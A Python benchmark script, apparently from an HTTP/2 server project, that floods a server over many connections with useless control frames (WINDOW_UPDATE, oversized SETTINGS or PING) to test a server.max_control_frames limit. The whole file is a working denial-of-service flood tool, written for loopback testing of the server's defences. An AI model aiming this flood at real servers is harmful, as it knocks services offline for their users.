#!/usr/bin/env python3
"""A flood of HTTP/2 frames that do no work, written by hand so the attacker stays cheap:
after a valid preface and SETTINGS, each connection sends WINDOW_UPDATEs on stream 0 (`wu`),
SETTINGS frames of 2,730 parameters (`settings`) or PINGs (`ping`) as fast as the socket
takes them, reading and discarding what comes back, and reconnects when it is closed
(unless `once` is given).

    benches/control-flood.py HOST PORT wu|settings|ping CONNECTIONS SECONDS [once]

Prints the attacker's own CPU seconds, the connections it opened and the GOAWAYs naming
server.max_control_frames it saw. Loopback only; see README "Load and hostile clients"."""
import resource
import select
import socket
import struct
import sys
import time

host, port, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
connections, seconds = int(sys.argv[4]), float(sys.argv[5])
once = sys.argv[6:] == ["once"]


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


one = {
    "wu": frame(8, 0, 0, struct.pack(">I", 1)),
    "settings": frame(4, 0, 0, bytes([0, 2, 0, 0, 0, 0]) * 2730),
    "ping": frame(6, 0, 0, b"\x07" * 8),
}[kind]
batch = one * max(1, 16384 // len(one))
opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")


def reconnect(s):
    global opened
    socks.remove(s)
    s.close()
    if not once:
        socks.append(connect())
        opened += 1


def connect():
    s = socket.create_connection((host, port))
    s.sendall(opening)
    s.setblocking(False)
    return s


socks = [connect() for _ in range(connections)]
opened, goaways = connections, 0
start = time.time()
before = resource.getrusage(resource.RUSAGE_SELF)
while time.time() - start < seconds:
    if not socks:
        time.sleep(0.1)
        continue
    _, writable, _ = select.select([], socks, [], 0.1)
    for s in list(socks):
        try:
            while True:
                data = s.recv(65536)
                if not data:
                    raise ConnectionError
                goaways += data.count(b"server.max_control_frames")
        except BlockingIOError:
            pass
        except OSError:
            reconnect(s)
            continue
        if s in writable:
            try:
                s.send(batch)
            except BlockingIOError:
                pass
            except OSError:
                reconnect(s)
after = resource.getrusage(resource.RUSAGE_SELF)
cpu = after.ru_utime - before.ru_utime + after.ru_stime - before.ru_stime
print(f"attacker_cpu_s={cpu:.2f} connections={opened} goaways={goaways} seconds={seconds:g}")
